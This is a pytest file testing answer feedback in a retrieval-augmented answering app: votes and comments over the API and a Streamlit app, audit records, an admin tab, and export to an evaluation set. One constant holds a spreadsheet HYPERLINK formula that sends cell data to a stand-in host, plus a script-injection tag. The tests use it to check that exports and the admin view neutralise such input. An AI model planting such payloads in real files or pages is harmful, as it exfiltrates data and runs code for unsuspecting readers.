"""Answer feedback (issue 34, part 4): thumbs up or down with a comment on
an answer in the app (Streamlit AppTest, the answer from
tests/misbehaving_server.py's well-behaved LLM) and over the API (the real
server, the openai client and httpx), kept per user with the question,
answer, citations and stages, audited; the admins' Feedback tab; and
`rag feedback export`, whose folder `rag eval --stages` runs for real
against the real vLLM CPU server (marked `llm`)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
import sqlalchemy
from api_server import QUESTION, Server, accounts, offline_settings, serve
from click.testing import CliRunner
from misbehaving_server import MODEL, misbehaving_server
from test_app import app
from test_app_access import log_in, team  # noqa: F401 - a fixture
from test_app_flows import button

from cli.rag_main import main
from rag.errors import RagError
from rag.evaluation import load_dataset
from rag.settings import Settings
from rag.types import Answer
from team.appdb import open_app_db
from team.appdb.feedback import REMEMBERED, FeedbackMissing
from team.appdb.schema import SCHEMA_VERSION

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>'


@contextmanager
def api_server(settings: Settings) -> Iterator[Server]:
    keys = accounts(settings)
    with serve(settings) as url:
        yield Server(url, settings, keys)


@pytest.fixture
def api(tmp_path, docs_index):
    """The API answering through the well-behaved scripted LLM (a fixed cited answer)."""
    with misbehaving_server() as llm:
        update = {"llm_url": llm.url("ok"), "llm_model": MODEL}
        with api_server(offline_settings(tmp_path, docs_index).model_copy(update=update)) as s:
            yield s


@pytest.fixture
def llm_api(tmp_path, docs_index, llm_settings):
    """The API answering through the real vLLM CPU server."""
    offline = offline_settings(tmp_path, docs_index)
    update = {"indexes_root": offline.indexes_root, "app_db": offline.app_db, "auth": "local"}
    with api_server(llm_settings.model_copy(update=update)) as server:
        yield server


def post(server: Server, user: str, **body: object) -> httpx.Response:
    with server.http(user) as client:
        return client.post("/v1/feedback", json=body)


def test_api_feedback_names_a_completion_the_user_was_given(api):
    completion = api.client("rex").chat.completions.create(
        model="default", messages=[{"role": "user", "content": QUESTION}]
    )
    assert completion.id.startswith("chatcmpl-")
    done = post(api, "rex", id=completion.id, vote="down", comment=HOSTILE)
    assert done.status_code == 200, done.text
    assert done.json() == {"object": "feedback", "id": completion.id, "vote": "down",
                           "model": "default"}  # fmt: skip

    # Another user's completion, and one never given, are the same 404.
    for user, answer_id in (("eve", completion.id), ("rex", "chatcmpl-" + "0" * 32)):
        refused = post(api, user, id=answer_id, vote="up")
        assert refused.status_code == 404, refused.text
        assert refused.json()["error"]["code"] == "answer_not_found"
    assert post(api, "rex", id=completion.id, vote="meh").status_code in (400, 422)
    too_long = post(api, "rex", id=completion.id, vote="up", comment="x" * 2001)
    assert too_long.status_code in (400, 422)

    db = open_app_db(api.settings)
    entry = db.feedback.given("rex", completion.id)
    assert entry is not None and entry.vote == "down" and entry.comment == HOSTILE
    assert entry.turn.question == QUESTION
    assert entry.turn.answer.text == completion.choices[0].message.content
    assert len(entry.turn.answer.citations) == len(completion.choices[0].message.citations)
    assert entry.retrieved and all(h.text for h in entry.retrieved), "the passages found, whole"
    audit = [(e.user, e.action, e.target, e.detail) for e in db.audit.entries()]
    assert ("rex", "feedback", "default", f"{completion.id} down") in audit


def test_a_streamed_completion_takes_feedback_too(api):
    stream = api.client("rex").chat.completions.create(
        model="default", messages=[{"role": "user", "content": QUESTION}], stream=True
    )
    ids = {chunk.id for chunk in stream}
    assert len(ids) == 1
    assert post(api, "rex", id=ids.pop(), vote="up").status_code == 200


def test_the_store_keeps_a_users_unvoted_answers_bounded(tmp_path):
    db = open_app_db(Settings(indexes_root=tmp_path))
    answer = Answer(question="q", text="a")
    db.feedback.remember("rex", "default", "kept", answer)
    db.feedback.vote("rex", "kept", "down")
    for n in range(REMEMBERED + 5):
        db.feedback.remember("rex", "default", f"id-{n}", answer)
    assert db.feedback.given("rex", "id-0") is None, "the oldest unvoted answer is forgotten"
    assert db.feedback.given("rex", f"id-{REMEMBERED + 4}") is not None
    assert db.feedback.given("rex", "kept") is not None, "a voted answer stays"
    with pytest.raises(FeedbackMissing):
        db.feedback.vote("eve", "kept", "up")
    with pytest.raises(RagError, match="2000 characters"):
        db.feedback.vote("rex", "kept", "up", "x" * 2001)


def vote_and_export(server: Server, tmp_path: Path, monkeypatch, votes: str) -> Path:
    """Two answers voted on over the API (one down, one up), exported."""
    client = server.client("rex")
    for question, vote in ((QUESTION, "down"), ("Which loaders does ingestion have?", "up")):
        completion = client.chat.completions.create(
            model="default", messages=[{"role": "user", "content": question}]
        )
        done = post(server, "rex", id=completion.id, vote=vote, comment=HOSTILE)
        assert done.status_code == 200, done.text
    monkeypatch.setenv("RAG_INDEXES_ROOT", str(server.settings.indexes_root))
    monkeypatch.setenv("RAG_APP_DB", server.settings.app_db.get_secret_value())
    out = tmp_path / f"feedback-{votes}"
    index = str(server.settings.indexes_root / "default")
    args = ["feedback", "export", "--index", index, str(out), "--votes", votes]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return out


def lines(path: Path) -> list[dict[str, str]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_export_writes_the_down_voted_answers_as_a_beir_question_set(api, tmp_path, monkeypatch):
    out = vote_and_export(api, tmp_path, monkeypatch, "down")
    queries = lines(out / "queries.jsonl")
    assert [q["text"] for q in queries] == [QUESTION]
    assert queries[0]["vote"] == "down"
    assert queries[0]["comment"] == "'" + HOSTILE, "no formula in an export"
    corpus = lines(out / "corpus.jsonl")
    assert corpus and all(p["_id"] and p["text"] and "#" not in p["_id"] for p in corpus)
    judged = (out / "qrels" / "test.tsv").read_text().splitlines()
    assert judged[0] == "query-id\tcorpus-id\tscore"
    assert {line.split("\t")[0] for line in judged[1:]} == {queries[0]["_id"]}
    assert {line.split("\t")[1] for line in judged[1:]} <= {p["_id"] for p in corpus}
    # rag eval's own reader takes it: the question, its passages, its judgements.
    data = load_dataset(out)
    assert list(data.queries.values()) == [QUESTION] and len(data.corpus) == len(corpus)

    index = str(api.settings.indexes_root / "default")
    again = CliRunner().invoke(main, ["feedback", "export", "--index", index, str(out)])
    assert again.exit_code == 1 and "not an empty folder" in again.output
    both = vote_and_export(api, tmp_path, monkeypatch, "all")
    assert len(lines(both / "queries.jsonl")) == 4
    scores = [
        line.rsplit("\t", 1)[1]
        for line in (both / "qrels" / "test.tsv").read_text().splitlines()[1:]
    ]
    assert "1" in scores, "an up-voted answer's cited passages are judged relevant"


@pytest.mark.llm
def test_rag_eval_stages_runs_the_exported_set(llm_api, tmp_path, monkeypatch):
    both = vote_and_export(llm_api, tmp_path, monkeypatch, "all")
    for name, value in (("RAG_LLM_URL", llm_api.settings.llm_url),
                        ("RAG_LLM_MODEL", llm_api.settings.llm_model)):  # fmt: skip
        monkeypatch.setenv(name, value)
    args = ["eval", str(both), "--stages", "--index", str(tmp_path / "eval-index"), "--json"]
    evaluated = CliRunner().invoke(main, args)
    assert evaluated.exit_code == 0, evaluated.output
    report = json.loads(evaluated.output.strip().splitlines()[-1])
    assert report["summary"]["queries"] == 2 and report["summary"]["errors"] == 0
    exported = {q["_id"] for q in lines(both / "queries.jsonl")}
    assert {row["qid"] for row in report["queries"]} == exported
    assert all(row["seconds"]["retrieve"] > 0 for row in report["queries"])
    # The down-voted question has no passage judged relevant (until someone marks one).
    assert report["summary"]["in_retrieved"] <= 0.5


@pytest.fixture
def answering(team, app_env):  # noqa: F811
    with misbehaving_server() as server:
        app_env.setenv("RAG_LLM_URL", server.url("ok"))
        app_env.setenv("RAG_LLM_MODEL", MODEL)
        yield team


def test_app_thumbs_down_with_a_comment_is_kept_audited_and_shown_to_admins(answering):
    db = answering
    at = log_in(app().run(), "rita")
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception, [e.value for e in at.exception]
    comment = next(t for t in at.text_input if (t.key or "").startswith("fb-comment-"))
    comment.set_value(HOSTILE)
    button(at, "👎").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("Your feedback: 👎" in c.value for c in at.caption)

    [entry] = db.feedback.voted("default", vote="down")
    assert (entry.user, entry.comment, entry.turn.question) == ("rita", HOSTILE, QUESTION)
    assert entry.turn.answer.citations and entry.retrieved
    assert ("rita", "feedback", "default") in [(e.user, e.action, e.target)
                                               for e in db.audit.entries()]  # fmt: skip
    assert "Feedback" not in [t.label for t in at.tabs], "readers do not see the tab"

    admin = log_in(app().run(), "ada")
    assert "Feedback" in [t.label for t in admin.tabs]
    tab = next(t for t in admin.tabs if t.label == "Feedback")
    assert f"Comment: {HOSTILE}" in [t.value for t in tab.text], "shown as literal text"
    assert f"Question: {QUESTION}" in [t.value for t in tab.text]
    assert len(tab.dataframe) >= 1, "what retrieval found and what the screen kept"
    assert all("<script>" not in m.value for m in tab.markdown)


def test_an_app_database_of_schema_3_gains_the_feedback_table(tmp_path):
    settings = Settings(indexes_root=tmp_path / "indexes")
    db = open_app_db(settings)
    with db.engine.begin() as conn:
        conn.execute(sqlalchemy.text("DROP TABLE answer_feedback"))
        conn.execute(sqlalchemy.text("UPDATE kbqa_meta SET value = '3' WHERE key = 'schema'"))
    db = open_app_db(settings)
    assert db.schema_version() == SCHEMA_VERSION == 4
    db.feedback.remember("ann", "default", "chatcmpl-1", Answer(question="q", text="a"))
    assert db.feedback.vote("ann", "chatcmpl-1", "up").vote == "up"
